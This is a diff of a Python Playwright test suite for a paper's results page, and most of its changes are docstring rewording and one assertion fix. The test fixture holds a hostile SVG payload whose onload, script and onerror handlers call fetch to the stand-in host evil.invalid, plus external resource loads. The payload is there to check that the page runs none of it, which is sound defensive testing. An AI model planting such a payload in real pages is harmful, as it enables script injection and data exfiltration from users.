@@ -1,4 +1,4 @@
-"""The page of a paper in a real browser: it filters, searches, fits every screen, and runs nothing of other people."""
+"""The page of a paper in a real browser: it filters, searches, fits every screen, and runs nothing of others."""
 
 from __future__ import annotations
 
@@ -18,7 +18,8 @@ if TYPE_CHECKING:
     from playwright.sync_api import Browser, Page
 
 STEAL = "document.title='stolen';fetch('http://evil.invalid/x')"
-SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9pt" onload="{STEAL}"><script>{STEAL}</script>
+SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9pt" onload="{STEAL}">
+<script>{STEAL}</script>
 <image href="http://evil.invalid/a.png" width="9" height="9" onerror="{STEAL}"/>
 <style>@import url(http://evil.invalid/a.css);</style>
 <rect width="9" height="9" style="fill: url(http://evil.invalid/c.svg#p)"/></svg>"""
@@ -42,7 +43,7 @@ def results(folder: Path) -> list[Any]:
 
 @pytest.fixture
 def opened(browser: Browser, folder: Path) -> Iterator[Any]:
-    """Opens the page with the given settings of the browser; any complaint or request of the browser fails the test."""
+    """Opens the page with settings of the browser; any complaint or request of the browser fails the test."""
     contexts, complaints = [], list[str]()
 
     def open_page(fragment: str = "", **settings: Any) -> Page:
@@ -80,7 +81,7 @@ def test_it_shows_all_with_figures_that_are_drawn(opened: Any, results: list[Any
     )
     assert all(box["width"] > 250 and box["height"] > 150 for box in (image.bounding_box() for image in images.all()))
     page.get_by_role("button", name="Close all").click()
-    assert not any(image.is_visible() for image in images.all())
+    assert not any(image.is_visible() for image in page.locator("article img").all())
 
 
 @pytest.mark.parametrize(
